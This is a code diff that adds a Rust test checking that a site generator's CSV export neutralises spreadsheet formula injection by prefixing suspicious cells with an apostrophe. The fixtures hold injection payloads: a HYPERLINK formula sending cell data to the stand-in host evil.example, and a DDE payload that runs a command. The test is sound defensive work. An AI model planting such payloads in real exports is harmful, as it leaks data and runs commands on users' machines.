@@ -187,3 +187,38 @@ fn multi_line_portal_text_keeps_its_lines_and_never_shows_markup() {
         );
     }
 }
+
+/// Spreadsheets run a cell that starts with = + - @ (or a tab) as a formula: open data's
+/// CSV, which the docs tell people to open in Excel, must show them as text.
+#[test]
+fn csv_cells_that_look_like_formulas_are_text() {
+    let record = Record::new(
+        "1.000001",
+        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Bấm\")",
+    )
+    .plain("+cmd|' /C calc'!A0")
+    .field("@SUM(1+1)")
+    .text()
+    .replace(
+        "co_quan_thuc_hien: Ủy ban nhân dân cấp xã",
+        "co_quan_thuc_hien: \"\\t=1+1\"",
+    );
+    let (_tmp, out) = build_one(&record, "a.yaml");
+    let bytes = std::fs::read(out.join("du-lieu/thu-tuc.csv")).expect("csv");
+    let mut r = csv::Reader::from_reader(&bytes[3..]);
+    let header = r.headers().expect("header").clone();
+    let row = r.records().next().expect("a row").expect("row");
+    let cell = |name: &str| {
+        let i = header.iter().position(|h| h == name).expect(name);
+        row[i].to_owned()
+    };
+    assert_eq!(
+        cell("ten_thu_tuc"),
+        "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Bấm\")"
+    );
+    assert_eq!(cell("ten_than_thien"), "'+cmd|' /C calc'!A0");
+    assert_eq!(cell("linh_vuc"), "'@SUM(1+1)");
+    assert_eq!(cell("co_quan_thuc_hien"), "'\t=1+1");
+    // Not a formula: left as it is.
+    assert_eq!(cell("ma_thu_tuc"), "1.000001");
+}
